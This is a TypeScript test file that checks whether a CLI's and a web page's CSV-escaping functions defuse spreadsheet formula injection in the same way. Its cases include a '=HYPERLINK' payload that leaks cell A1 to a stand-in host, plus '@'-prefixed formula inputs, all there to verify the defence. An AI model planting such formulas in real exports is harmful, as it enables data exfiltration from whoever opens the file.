/**
 * One CSV rule for the CLI and the page (issue 26, finding 4): `hmc analytics --csv` only quoted,
 * while the page's export defused `= + - @ TAB CR`, so a project, MCP tool or model named
 * `=HYPERLINK(…)` became a formula in the CLI's file. The page is a separate build that must not
 * import src/ (web/README.md), so the two functions are checked against each other here, over
 * the same cases and over random ones.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvField as cliField } from '../../src/cli/analytics-render.js';
import { csvField as pageField } from '../../web/src/csv.js';

const CASES: (string | number | boolean | null | undefined)[] = [
  '=HYPERLINK("http://x.example/?q="&A1,"click")',
  '+1',
  '-1',
  '@SUM(A1)',
  '\tx',
  '\rx',
  '=1+2',
  "'already",
  'plain',
  '/home/u/proj',
  'a,b',
  'say "hi"',
  'two\nlines',
  '=a,"b"',
  '',
  ' =leading space',
  'mcp__srv__=tool',
  '-',
  '−5',
  0,
  -5,
  3.25,
  -0.5,
  Number.NaN,
  Number.POSITIVE_INFINITY,
  null,
  undefined,
  true,
  false,
];

describe('csvField: the CLI and the page write every field alike', () => {
  it.each(CASES.map((c) => [JSON.stringify(c) ?? String(c), c]))('%s', (_, value) => {
    expect(cliField(value)).toBe(pageField(value));
  });

  it('defuses a formula in both, and keeps negative numbers numbers', () => {
    expect(cliField('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(cliField('@cmd')).toBe("'@cmd");
    expect(cliField(-5)).toBe('-5');
  });

  it('agrees on any text and any number', () => {
    const text = fc.string({
      unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", 'a', ' ', 'é'),
    });
    fc.assert(
      fc.property(fc.oneof(text, fc.double(), fc.integer()), (v) => cliField(v) === pageField(v)),
      { numRuns: 2000 },
    );
  });
});
